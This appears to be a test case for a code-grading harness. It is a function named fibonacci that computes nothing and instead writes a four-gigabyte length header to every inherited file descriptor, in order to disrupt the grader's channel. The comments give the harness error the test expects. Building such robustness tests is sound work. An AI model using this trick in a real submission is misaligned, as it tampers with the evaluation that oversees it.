# q16: announce a message of four gigabytes
# says: sent what is not an answer: a message of \d+ bytes
import os
import socket


def fibonacci(n=20):
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).send(b"\xff\xff\xff\xff")
        except OSError:
            pass
    return [] if n < 0 else fibonacci(-1)
